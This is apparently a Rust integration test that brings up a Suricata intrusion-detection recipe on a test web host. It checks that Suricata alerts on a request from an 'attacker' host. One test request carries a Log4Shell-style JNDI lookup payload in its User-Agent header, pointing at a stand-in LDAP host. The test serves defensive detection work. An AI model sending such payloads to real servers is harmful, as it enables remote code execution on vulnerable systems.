//! The recipes of `examples/`: each with the real IDS, from its own files, and an attack that it
//! must see.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::Duration;

use hyperspector_tests::{Fleet, Recipe, TestHost, wait_until};

/// Brings a recipe up on a host.
#[track_caller]
fn up(host: &TestHost, recipe: &Recipe) {
    let spec = host.spec(recipe.text());
    host.up(&spec);
}

/// A web server that answers every request with nothing, until the test ends.
fn serve(host: &TestHost) {
    let listener = host.net.within(|| TcpListener::bind("0.0.0.0:80").unwrap());
    std::thread::spawn(move || {
        for mut client in listener.incoming().flatten() {
            let _ = client.read(&mut [0; 4096]);
            let _ = client.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
        }
    });
}

/// Sends a request from one host to another, and waits for the answer.
fn request(from: &TestHost, to: &TestHost, header: &str) {
    let address = (to.address(), 80);
    let mut stream = from.net.within(|| TcpStream::connect(address).unwrap());
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let text = format!("GET / HTTP/1.1\r\nHost: web1\r\n{header}\r\n\r\n");
    stream.write_all(text.as_bytes()).unwrap();
    let _ = stream.read(&mut [0; 4096]);
}

#[test]
fn suricata_sees_an_exploit_in_a_request() {
    let fleet = Fleet::new(&["web1", "attacker"]);
    let (host, attacker) = (fleet.host("web1"), fleet.host("attacker"));
    serve(host);
    up(host, &Recipe::of("suricata"));
    host.wait_log("alpha/nids", "Engine started");
    let threads = "Threads created -> W: 2";
    assert!(host.logs("alpha/nids").contains(threads), "{}", host.logs("alpha/nids"));
    let alerts = || host.exec("alpha/nids", &["cat", "/var/log/suricata/fast.log"]).stdout;
    request(attacker, host, "User-Agent: none");
    wait_until("Suricata sees the exploit", || {
        request(attacker, host, "User-Agent: ${jndi:ldap://192.0.2.66/a}");
        alerts().contains("JNDI lookup in a request")
    });
    assert!(alerts().contains("-> 192.0.2.11:80"), "{}", alerts());
    assert!(!alerts().contains("path traversal"), "{}", alerts());
}
